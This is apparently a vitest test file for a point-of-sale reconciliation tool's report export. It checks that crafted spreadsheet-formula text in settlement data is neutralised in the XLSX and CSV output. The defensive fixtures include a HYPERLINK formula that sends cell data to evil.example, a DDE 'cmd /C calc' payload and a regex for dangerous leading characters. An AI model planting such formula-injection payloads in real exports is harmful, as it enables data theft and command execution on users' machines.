import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { listCases, resolveCase } from '../../../src/app/cases.js';
import { parseRateInput, type RateInput } from '../../../src/app/rates.js';
import { writeReport } from '../../../src/app/write-report.js';
import type { ReportModel } from '../../../src/report/model.js';
import { openStore } from '../../../src/store/open.js';
import { feesRepo } from '../../../src/store/repos/fees.js';
import { parseCsv } from '../../helpers/csv.js';
import { fixedContext, runScenario } from '../../helpers/store.js';
import { dumpWorkbook, readWorkbook } from '../../helpers/xlsx.js';

const FIX = join(import.meta.dirname, '../../fixtures/report/crafted-remark');
const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看 Click")';
const DANGEROUS = /^[=+\-@\t\r]/;

/** Imports the fixture into a file database with its rate card, matches, and marks the timeout case disputed. */
async function prepare(): Promise<{ dir: string; dbPath: string }> {
  const dir = mkdtempSync(join(tmpdir(), 'posrecon-report-'));
  const dbPath = join(dir, 'report.db');
  const db = openStore(dbPath);
  const card = JSON.parse(readFileSync(join(FIX, 'rates.json'), 'utf8')) as { rates: RateInput[] };
  for (const r of card.rates) {
    feesRepo(db).upsert(
      parseRateInput(r, (k, w) => {
        throw new Error(`${k}: ${w}`);
      }),
      '2026-03-10T08:00:00.000Z',
    );
  }
  await runScenario(FIX, db);
  db.close();
  const [timeout] = await listCases(dbPath, { category: 'timeout_but_settled' });
  await resolveCase(dbPath, { id: timeout?.id ?? '', status: 'disputed', note: 'claim filed with acquirer, ref 2026-031', by: 'alice' }, fixedContext);
  return { dir, dbPath };
}

describe('report of a settlement file with formula-like text (fixture crafted-remark)', () => {
  it('builds the model in expected.model.json', async () => {
    const { dir, dbPath } = await prepare();
    const { caseCount } = await writeReport(dbPath, { format: 'json', outPath: join(dir, 'report.json') }, fixedContext);
    const text = readFileSync(join(dir, 'report.json'), 'utf8');
    const json = JSON.parse(text) as ReportModel;
    expect(json.cases).toHaveLength(caseCount);
    // Streamed case by case, the file is still exactly what JSON.stringify would write for the whole model.
    expect(text).toBe(`${JSON.stringify(json, null, 2)}\n`);
    await expect(`${JSON.stringify({ ...json, database: 'report.db' }, null, 2)}\n`).toMatchFileSnapshot(join(FIX, 'expected.model.json'));
  });

  it('writes the workbook in expected.xlsx.txt: typed cells, frozen headers, filters, crafted text inert', async () => {
    const { dir, dbPath } = await prepare();
    const path = join(dir, 'report.xlsx');
    await writeReport(dbPath, { format: 'xlsx', outPath: path }, fixedContext);
    const wb = await readWorkbook(path);
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      'Summary',
      'missing_in_settlement',
      'timeout_but_settled',
      'duplicate_charge',
      'missing_on_terminal',
      'amount_mismatch',
      'void_not_honored',
      'fee_mismatch',
      'pending_settlement',
      'journal_not_imported',
      'Terminal health',
      'Declines',
    ]);

    // The crafted store name arrives as text with a leading apostrophe, and no cell anywhere is a formula.
    const texts: Array<{ where: string; value: string }> = [];
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push({ where: `${ws.name}!${cell.address}`, value: cell.value });
        }),
      );
    }
    expect(texts.filter((t) => DANGEROUS.test(t.value))).toEqual([]);
    const timeout = wb.getWorksheet('timeout_but_settled');
    const header = (timeout?.getRow(1).values as unknown[]).slice(1);
    const row = timeout?.getRow(2);
    const at = (name: string): ExcelJS.Cell | undefined => row?.getCell(header.indexOf(name) + 1);
    expect(at('结算:商户名称 S store name')?.value).toBe(`'${HYPERLINK}`);
    expect(at('状态 Status')?.value).toBe('disputed');
    expect(at('处理备注 Status note')?.value).toBe('claim filed with acquirer, ref 2026-031');
    // Money as numbers with a number format; dates as dates.
    expect(at('金额 Amount')?.value).toBe(300);
    expect(at('金额 Amount')?.numFmt).toBe('#,##0.00');
    expect(at('交易时间 Time')?.value).toEqual(new Date('2026-03-08T09:20:00Z'));
    expect(at('交易时间 Time')?.numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(timeout?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(timeout?.autoFilter).toBeDefined();
    const mot = wb.getWorksheet('missing_on_terminal')?.getRow(2).values as unknown[];
    expect(mot).toContain("'-2+3");
    expect(mot).toContain("'+cmd|' /C calc'!A0");
    expect(wb.getWorksheet('missing_in_settlement')?.getRow(2).values as unknown[]).toContain("'@SUM(A1:A9)");

    await expect(dumpWorkbook(wb).split(dir).join('<tmp>')).toMatchFileSnapshot(join(FIX, 'expected.xlsx.txt'));
  });

  it('writes one CSV per category with a BOM, crafted text inert, as in expected-csv/', async () => {
    const { dir, dbPath } = await prepare();
    const out = join(dir, 'csv');
    const { paths } = await writeReport(dbPath, { format: 'csv', outPath: out }, fixedContext);
    expect(paths).toHaveLength(9);
    for (const name of readdirSync(out).sort()) {
      const bytes = readFileSync(join(out, name));
      expect([...bytes.subarray(0, 3)], name).toEqual([0xef, 0xbb, 0xbf]);
      const text = bytes.toString('utf8').slice(1);
      const rows = parseCsv(text);
      for (const field of rows.flat()) expect(DANGEROUS.test(field), `${name}: ${field}`).toBe(false);
      if (rows.length > 1) await expect(text).toMatchFileSnapshot(join(FIX, 'expected-csv', name));
    }
    const timeout = parseCsv(readFileSync(join(out, 'timeout_but_settled.csv'), 'utf8').slice(1));
    const col = (timeout[0] ?? []).indexOf('结算:商户名称 S store name');
    expect(timeout[1]?.[col]).toBe(`'${HYPERLINK}`);
  });
});
